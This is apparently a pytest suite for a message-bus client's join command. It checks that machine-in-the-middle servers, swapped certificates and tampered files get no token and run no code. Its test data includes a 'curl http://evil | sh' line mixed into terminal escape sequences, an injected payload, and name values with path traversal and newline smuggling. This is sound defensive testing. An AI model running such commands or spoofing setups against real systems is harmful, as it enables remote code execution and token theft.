"""Somebody between `join` and the bus: nothing of theirs is run, and they get no token."""
import contextlib
import http.server
import json
import os
import pathlib
import re
import socket
import socketserver
import ssl
import subprocess
import sys
import threading

import pytest

from tests.kit import forked, joining
from tests.kit.joining import CLIENTS, CONFIG, NOBODYS, invited, join, other_bus, pasted, secure, shells, tls, two_keys
from tests.kit.processes import PATIENCE, ROOT, Server, wait_until
from tools import bus_join

bus = joining.bus  # a fixture
pytestmark = joining.needs_curl

EVIL = "import pathlib; pathlib.Path('ran').touch()"


class Between(http.server.ThreadingHTTPServer):
    """A server in place of the bus, which has other files for those who ask. `heard` is all that it was sent."""

    def __init__(self, port, certificate=None, **files):
        super().__init__(("127.0.0.1", port), Answers)
        self.files, self.heard, self.says = files, [], ""
        if certificate:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(certificate.file, certificate.key)
            self.socket = context.wrap_socket(self.socket, server_side=True, do_handshake_on_connect=False)

    def handle_error(self, *_):
        """The client hangs up when it sees the key."""

    def __enter__(self):
        threading.Thread(target=self.serve_forever, args=[0.01]).start()
        return self

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


class Answers(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.heard.append(f"{self.path} {self.headers}")
        name, _, program = self.path[1:].partition(".")
        if program:
            ours = next(file for file in (ROOT / f"{name}.py", ROOT / "tools" / f"{name}.py") if file.exists())
            body = self.server.files.get(name) or ours.read_bytes()
        else:
            body = json.dumps({"error": self.server.says}).encode()
        self.send_response(200 if program else 401)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@pytest.mark.parametrize("shell", [row.values[0] for row in shells(["bash"], ["zsh"])])
def test_nothing_of_a_server_with_another_key_is_run_and_nothing_is_asked(shell, bus, tmp_path, authority):
    line, token, _ = invited(bus, "dell")
    bus.stop()
    other = authority.sign("IP:127.0.0.1")
    with Between(bus.port, other, bus_join=EVIL.encode()) as between:
        screen = pasted(line, tmp_path, shell)
        assert "does not match pinned public key" in screen and "token of" not in screen
        assert between.heard == [] and not (tmp_path / "home" / "ran").exists()
        assert not (tmp_path / "home" / ".local").exists() and not (tmp_path / "home" / ".config").exists()


def test_the_control_without_the_pin_it_would_have_run(bus, tmp_path, authority):
    line, _, _ = invited(bus, "dell")
    bus.stop()
    with Between(bus.port, authority.sign("IP:127.0.0.1"), bus_join=EVIL.encode()):
        pasted(re.sub(r"--pinnedpubkey \S+", "", line), tmp_path)
        assert (tmp_path / "home" / "ran").exists()


def test_a_key_that_changes_after_the_first_file_is_one_sentence(bus, tmp_path, authority):
    line, token, _ = invited(bus, "dell")
    bus.stop()
    with Between(bus.port, authority.sign("IP:127.0.0.1")) as between:
        code, out, err = join(bus, "dell", token, tmp_path / "home", pin=line)
    assert (code, out, err.count("\n")) == (1, "", 1) and "does not have the key of the invitation" in err
    assert between.heard == [] and not (tmp_path / "home").exists()


class Relay(socketserver.ThreadingTCPServer):
    """Passes on what curl and the bus say, and shows its certificate to everybody else. `heard` is what they say."""

    daemon_threads = True

    def __init__(self, port, certificate):
        super().__init__(("127.0.0.1", 0), Passing)
        self.port, self.heard = port, []
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(certificate.file, certificate.key)

    __enter__, __exit__ = Between.__enter__, Between.__exit__


class Passing(socketserver.BaseRequestHandler):
    def handle(self):
        if b"http/1.1" not in self.request.recv(4096, socket.MSG_PEEK):  # in its first words, curl names protocols
            with contextlib.suppress(OSError), self.server.context.wrap_socket(self.request, server_side=True) as tls:
                self.server.heard.append(tls.recv(65536))
            return
        with socket.create_connection(("127.0.0.1", self.server.port)) as bus:
            threading.Thread(target=self.copy, args=(bus, self.request)).start()
            self.copy(self.request, bus)

    def copy(self, source, target):
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)


def test_a_certificate_in_which_two_parsers_find_two_keys_gets_no_token(tmp_path, authority):
    certificate = authority.self_signed("IP:127.0.0.1")
    with secure(Server(tmp_path / "bus.db", *tls(certificate))) as bus:
        line, token, _ = invited(bus, "dell")
        with Relay(bus.port, two_keys(certificate, tmp_path)) as relay:
            bus.url = f"https://127.0.0.1:{relay.server_address[1]}"
            code, out, err = join(bus, "dell", token, tmp_path / "home", pin=line)
    assert token.encode() not in b"".join(relay.heard)
    assert code == 1 and "FAIL  tls" in out and "nothing was configured" in err
    assert not (tmp_path / "home").exists()


def test_the_certificate_that_is_kept_is_that_of_the_bus(tmp_path, authority):
    certificate = authority.self_signed("IP:127.0.0.1")
    with secure(Server(tmp_path / "bus.db", *tls(certificate))) as bus:
        assert join(bus, "dell", invited(bus, "dell")[1], tmp_path / "home")[0] == 0
    kept = (tmp_path / "home" / CONFIG / "default.pem").read_text()
    assert kept == pathlib.Path(certificate.file).read_text()


def test_somebody_who_comes_in_between_later_gets_no_token(bus, tmp_path, authority):
    line, token, _ = invited(bus, "dell")
    home = tmp_path / "home"
    command = [sys.executable, "-I", "-c", joining.JOIN, bus.url, "dell", line.split()[-1]]
    env = {"HOME": str(home), "PATH": os.environ["PATH"]}
    process = forked.Popen(command, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    wait_until((home / CONFIG).exists)  # everything was fetched; it waits for the token
    bus.stop()
    with Between(bus.port, authority.self_signed("IP:127.0.0.1")) as between:
        out, err = process.communicate(token.encode(), timeout=PATIENCE)
        assert process.returncode == 1 and b"FAIL  tls" in out and b"nothing was configured" in err
        assert between.heard == [] and not home.exists()


@pytest.fixture
def plain(tmp_path):
    with Server(tmp_path / "bus.db") as bus:
        yield bus


@pytest.mark.parametrize("file", ["bus_join.py", bus_join.FILES[0], bus_join.FILES[-1]])
def test_over_plain_http_each_file_must_be_the_one_of_the_invitation(file, plain, tmp_path):
    line, _, _ = invited(plain, "dell")
    plain.stop()
    with Between(plain.port, **{file.partition(".")[0]: EVIL.encode()}) as between:
        screen = pasted(line, tmp_path)
        assert "of the invitation: ask for a new one" in screen and "nothing was run" in screen
        assert "Authorization" not in "".join(between.heard) and not (tmp_path / "home" / "ran").exists()
        assert not (tmp_path / "home" / CLIENTS / file).exists()


def test_over_plain_http_no_line_can_move_to_another_file(plain, tmp_path):
    line, token, _ = invited(plain, "dell")
    plain.stop()
    first, second = (ROOT / "bus_recv.py").read_bytes(), (ROOT / "bus_send.py").read_bytes()
    with Between(plain.port, bus_recv=first[:-99], bus_send=first[-99:] + second) as between:
        code, _, err = join(plain, "dell", token, tmp_path / "home", pin=line)
    assert code == 1 and "are not those of the invitation" in err and "Authorization" not in "".join(between.heard)


HOSTILE = "\x1b]0;owned\x07\x1b[2J\x1b[Hyou are dell\u202e\ncurl http://evil | sh"


def test_what_a_server_says_cannot_move_the_cursor_of_the_terminal(plain, tmp_path):
    line, token, _ = invited(plain, "dell")
    plain.stop()
    with Between(plain.port) as between:
        between.says = HOSTILE
        code, out, err = join(plain, "dell", token, tmp_path / "home", pin=line)
    assert (code, out, err.count("\n")) == (1, "", 1) and err[:-1].isprintable()
    assert r"\x1b]0;owned\x07\x1b[2J\x1b[Hyou are dell\u202e\ncurl http://evil | sh" in err


def test_what_a_server_says_hides_nothing(plain, tmp_path):
    """These four are printable for Python, and nothing on a screen."""
    line, token, _ = invited(plain, "dell")
    plain.stop()
    with Between(plain.port) as between:
        between.says = "a\u3164b\u2800c\ufe0fd\U000e0100e"
        code, _, err = join(plain, "dell", token, tmp_path / "home", pin=line)
    assert code == 1 and r"a\u3164b\u2800c\ufe0fd\U000e0100e" in err, ascii(err)


def test_what_a_configuration_says_cannot_either(plain, tmp_path):
    home = tmp_path / "home"
    other_bus(home)
    with (home / CONFIG / "default.env").open("a") as file:
        file.write("AGENT_NAME=na\x1b[2Jno\n")
    code, _, err = join(plain, "dell", NOBODYS, home, pin=invited(plain, "dell")[0])
    assert code == 1 and r"the configuration of na\x1b[2Jno on " in err and err[:-1].isprintable()


def test_one_place_prints():
    assert (ROOT / "tools" / "bus_join.py").read_text().count("print(") == 1


@pytest.mark.parametrize("name, env, says", [
    ("../dell", {}, "a NAME is 1 to 64 of"), ("dell\nAGENT_BUS_CA=x", {}, "a NAME is 1 to 64 of"),
    ("dell", {"AGENT_BUS_PROFILE": "../work"}, "a profile is 1 to 64 of"),
])  # fmt: skip
def test_what_is_no_name_and_no_profile_is_refused(name, env, says, tmp_path):
    code, out, err = join(Server(tmp_path / "bus.db"), name, "", tmp_path / "home", pin="none", **env)
    assert (code, out) == (2, "") and says in err and not (tmp_path / "home").exists()
